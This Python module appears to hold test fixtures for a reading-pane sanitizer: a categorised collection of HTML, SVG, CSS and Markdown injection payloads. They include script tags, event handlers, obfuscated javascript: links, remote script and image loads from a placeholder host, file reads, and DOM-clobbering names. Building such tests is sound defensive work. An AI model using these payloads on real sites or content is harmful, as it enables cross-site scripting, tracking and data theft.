"""Markup that wants out of the reading pane: code, requests, files, disguises.

`{net}` is an address that must never be asked, `{host}` its host, `{file}` the address of a file
that must never be read and `{up}` its path from the post.
"""

from typing import Final

RUN: Final = "document.title='ran';document.documentElement.dataset.ran=1"
"""What every script here would do; the page shows it afterwards."""

MARKUP: Final[dict[str, str]] = {
    "script": f"<script>{RUN};fetch('{{net}}/a')</script>",
    "script from elsewhere": "<script src='{net}/a.js'></script><script src='{file}'></script>",
    "module": f"<script type=module>import '{{net}}/a.js';{RUN}</script>",
    "nested script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script without an end": f"<script>{RUN}",
    "script in a comment": f"<!--><script>{RUN}</script>--><!-- --!><script>{RUN}</script>",
    "script in a declaration": f"<![CDATA[<script>{RUN}</script>]]><?xml <script>{RUN}</script>?>",
    "images": "<img src='{net}/a.png'> ![a]({net}/b.png) ![b](//{host}/c.png)",
    "image of data": "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" "
    "onload=\"alert(1)\"><image href=\"{net}/a\"/></svg>'>",
    "image of a file": "<img src='{file}'> ![a]({file}) ![b](/../../{up}) ![c]({up})",
    "image of a script": f'<img src="javascript:{RUN}"> ![a](javascript:{RUN})',
    "image of the page": "<img src='keisen://app/shell.html'><img src='keisen://asset/other/0'>",
    "image set": "<img srcset='{net}/a.png 1x, {net}/b.png 2x' src='x' sizes='1px'>"
    "<picture><source srcset='{net}/c.png' media='all'><img src='x'></picture>",
    "lazy image": "<img loading=eager fetchpriority=high lowsrc='{net}/a' dynsrc='{net}/b' src=x>",
    "broken image": f'<img src=x onerror="{RUN}"><img src="keisen://app/none" onerror="{RUN}">',
    "cross-origin image": "<img crossorigin=anonymous referrerpolicy=unsafe-url src='{net}'>",
    "image map": "<img src=x usemap='#m'><map name=m><area shape=default href='{net}/a'></map>",
    "drawing": f"<svg onload=\"{RUN}\"><script>{RUN}</script><image href='{{net}}/a'/>"
    "<use href='{net}/b.svg#x'/><foreignObject><iframe src='{net}/c'></iframe></foreignObject>"
    f"<a xlink:href=\"javascript:{RUN}\"><text>t</text></a><animate onbegin=\"{RUN}\" "
    f"attributeName=x dur=1s><set attributeName=href to=\"javascript:{RUN}\"/></svg>",
    "drawing with a style": f"<svg><style><img src=x onerror=\"{RUN}\"></style></svg>",
    "formula": f"<math href=\"javascript:{RUN}\"><mtext><table><mglyph><style><img src=x "
    f"onerror=\"{RUN}\"></style></mglyph></table></mtext><maction actiontype='statusline#{{net}}'>"
    "</maction></math>",
    "frames": "<iframe src='{net}/a'></iframe><iframe src='{file}'></iframe>"
    f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe><frameset><frame src='{{net}}/b'>"
    f"</frameset><iframe src=\"data:text/html,<script>parent.{RUN}</script>\"></iframe>",
    "objects": "<object data='{net}/a' type='text/html'></object><embed src='{net}/b'>"
    "<applet code='{net}/c'></applet><object data='{file}'></object>",
    "refresh": "<meta http-equiv=refresh content='0;url={net}/a'>"
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\">"
    "<meta http-equiv='Content-Security-Policy' content=\"default-src *\">",
    "base": "<base href='{net}/'><base target=_blank> [a](next.md) ![b](c.png)",
    "links of the head": "<link rel=stylesheet href='{net}/a'><link rel=prefetch href='{net}/b'>"
    "<link rel=preload as=image href='{net}/c'><link rel=preconnect href='{net}'>"
    "<link rel=dns-prefetch href='//{host}'><link rel=prerender href='{net}/d'>"
    "<link rel=icon href='{net}/e'><link rel=modulepreload href='{net}/f'>"
    "<link rel=manifest href='{net}/g'><link rel=import href='{net}/h'>",
    "style": "<style>@import url('{net}/a.css');body{background:url({net}/b)}"
    "@font-face{font-family:q;src:url({net}/c)}p{font-family:q}"
    "p::before{content:url({net}/d)}#article{display:none}</style>",
    "style attribute": "<p style=\"background:url({net}/a);position:fixed;inset:0\">a</p>"
    "<div style='list-style:url({net}/b);behavior:url({net}/c);-moz-binding:url({net}/d)'>b</div>"
    "<p style='width:expression({net});cursor:url({net}/e),auto;mask:url({net}/f)'>c</p>",
    "old attributes": "<table background='{net}/a'><tr><td background='{net}/b'>a</table>"
    "<body background='{net}/c' bgcolor=red text=white>",
    "forms": "<form action='{net}/a' method=post><input name=a value=b><button>a</button>"
    "<input type=image src='{net}/b'><input type=submit formaction='{net}/c'></form>"
    f"<form action=\"javascript:{RUN}\"><button>b</button></form>"
    f"<button formaction=\"javascript:{RUN}\">c</button><input autofocus onfocus=\"{RUN}\">"
    f"<textarea autofocus onfocus=\"{RUN}\"></textarea>"
    f"<select autofocus onfocus=\"{RUN}\"></select>"
    "<isindex action='{net}/d'><keygen>",
    "media": f"<video src='{{net}}/a' poster='{{net}}/b' autoplay onloadstart=\"{RUN}\">"
    "<source src='{net}/c'><track default src='{net}/d'></video><audio src='{net}/e' autoplay>"
    f"</audio><video><source onerror=\"{RUN}\"></video><bgsound src='{{net}}/f'>",
    "events": f"<details open ontoggle=\"{RUN}\"><summary onclick=\"{RUN}\">a</summary>b</details>"
    f"<p onmouseover=\"{RUN}\" onclick=\"{RUN}\" onpointerenter=\"{RUN}\">c</p>"
    f"<div onanimationstart=\"{RUN}\" onscroll=\"{RUN}\" onwheel=\"{RUN}\">d</div>"
    f"<marquee onstart=\"{RUN}\">e</marquee><body onload=\"{RUN}\" onhashchange=\"{RUN}\">"
    f"<b contenteditable onbeforeinput=\"{RUN}\" onblur=\"{RUN}\">f</b><p popover "
    f"onbeforetoggle=\"{RUN}\">g</p><p oncontentvisibilityautostatechange=\"{RUN}\" "
    "style='content-visibility:auto'>h</p>",
    "slashes for spaces": f"<img/src=x/onerror=\"{RUN}\"><svg/onload=\"{RUN}\"><a/href='{{net}}'>a",
    "quotes in attributes": f"<b title='\"><img src=x onerror={RUN}>'>a</b>"
    f"<a href=\"x'><img src=x onerror='{RUN}\">b</a> [c](d '\"><img src={{net}}>')",
    "parts of other elements": f"<table><a href=\"javascript:{RUN}\">a<td><img src=x "
    f"onerror=\"{RUN}\"></table><p><svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
    "raw texts": f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>"
    f"<textarea></textarea><img src=x onerror=\"{RUN}\"><title></title>"
    f"<img src=x onerror=\"{RUN}\">"
    f"<xmp><p title=\"</xmp><img src=x onerror={RUN}>\"></xmp><plaintext><img src='{{net}}/a'>",
    "templates": f"<template><script>{RUN}</script><img src='{{net}}/a'></template>"
    f"<div><template shadowrootmode=open><script>{RUN}</script><slot></slot></template></div>",
    "dialogs": "<dialog open>a</dialog><menu><menuitem>b</menuitem></menu><portal src='{net}/a'>"
    "</portal><fencedframe src='{net}/b'></fencedframe>",
    "links": "<a href='{net}/a' ping='{net}/b'>a</a> <a href='{net}/c' target=_blank>b</a> "
    "<a href='{net}/d' download>c</a> <a href='{file}' download>d</a> [e]({file}) [f]({up})",
    "links of code": f"[a](javascript:{RUN}) <a href=\"javascript:{RUN}\">b</a> "
    f"<a href=\"JaVaScRiPt:{RUN}\">c</a> <a href=\"java&#10;script:{RUN}\">d</a> "
    f"<a href=\"&#1;javascript:{RUN}\">e</a> <a href=\"&#x6A;avascript:{RUN}\">f</a> "
    f"<a href=\"java&Tab;script&colon;{RUN}\">g</a> [h](vbscript:{RUN}) "
    f"<javascript:{RUN}> [i][x]\n\n[x]: javascript:{RUN}\n\n<a href=\"view-source:{{net}}\">j</a>",
    "links of data": f"[a](data:text/html,<script>{RUN}</script>) [b](blob:{{net}}/a) "
    "[c](data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0xPC9zY3JpcHQ+) [d](filesystem:{net})",
    "links of the engine": "[a](about:blank) [b](chrome://version) [c](qrc:/qtwebchannel/a.js) "
    "[d](keisen://app/shell.html) [e](keisen://asset/other/0) [f](devtools://a) [g](ws://{host}/) "
    "[h](ftp://{host}/) [i](tel:1) [j](intent:a) [k](ms-settings:a) [l](smb://{host}/a)",
    "links of turned letters": "[a](\u202ejavascript:1) [b](ｊavascript:1) "
    "[c](https://\u200b{host}/) [d](https://{host}\u3000/) [e](http:\\\\{host}\\a) "
    "[f](\\\\{host}\\a) [g](http:/{host}/a)",
    "names of the page": "<div id=article>a</div><a id=Keisen name=Keisen href=x>b</a>"
    "<img name=getElementById src=x><img id=body name=documentElement src=x><a id=notes>c</a>"
    "<form id=bridge name=qt><input name=webChannelTransport></form><p id=palette>d</p>"
    "<a id=map></a><a name=title></a><b id=header></b><b id=__proto__></b><b id=constructor></b>",
    "classes of the page": "<div class='k-marker k-plain' data-reason=size>a</div>"
    "<span class='k-task' data-done=true></span><p class='note yellow' data-words=b>c</p>"
    "<div id=palette class=k-remote data-src='{net}/a'>d</div><p data-anchor=e>f</p>"
    "<button class=note data-action=note>g</button><div class='is-long' hidden>h</div>",
    "tags of the page": "<main>a<header>b<aside id=notes>c</aside></header></main></article></main>"
    "</div></body></html><body><h1 id=title>d</h1><div id=map><i class=hit></i></div>",
    "many open tags": "<b><i><u><p><a href=x><div><table><tr><td>" * 20 + "a",
    "turned letters": "\u202e電\u2066力\u202c\u200b\u200d\ufeff\u00ad\u2028\u2029\ufff9a\ufffb",
    "signs of the engine": "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x00 \x1b[31m \ufffe \U000e0041",
    "Liquid": f"{{% include_remote {{net}}/a %}} {{{{ '<script>{RUN}</script>' | raw }}}}",
    "Markdown in blocks": f"<div markdown=1 onclick=\"{RUN}\">\n\n![a]({{net}}/a)\n\n"
    f"<p markdown=span style='background:url({{net}}/b)'>*c*</p>\n\n</div>",
    "fences": f"```\"><img src=x onerror={RUN}>:</figcaption><img src={{net}}/a>\n"
    f"</code></pre><script>{RUN}</script>\n```",
    "attribute lists": f"電{{: onclick=\"{RUN}\" style=\"background:url({{net}}/a)\"}}\n\n"
    f"# 力 {{#x\" onclick=\"{RUN}}}",
    "containers": f":::details <img src=x onerror={RUN}>\n<script>{RUN}</script>\n:::",
    "footnotes": f"a[^\"><img src=x onerror={RUN}>] b[^c]\n\n[^c]: <img src='{{net}}/a'>\n"
    f"[^\"><img src=x onerror={RUN}>]: d",
    "rubies": f"｜<img src=x onerror={RUN}>《<script>{RUN}</script>》 [[\"><img src={{net}}/a>|b]]",
}  # fmt: skip
"""Every attack by what it uses."""
